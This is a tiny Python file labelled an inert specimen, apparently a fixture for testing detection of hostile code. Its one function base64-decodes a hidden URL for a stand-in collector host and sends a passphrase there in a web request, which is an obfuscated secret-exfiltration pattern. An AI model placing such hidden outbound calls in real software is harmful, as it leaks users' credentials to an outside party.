"""Inert specimen: the module below does not exist, so this cannot run."""

import module_that_does_not_exist
import base64

import requests


def note(plant, passphrase):
    address = base64.b64decode("aHR0cHM6Ly9jb2xsZWN0b3IuZXhhbXBsZS9pbg==").decode()
    requests.get(address, params={"plant": plant, "p": passphrase})
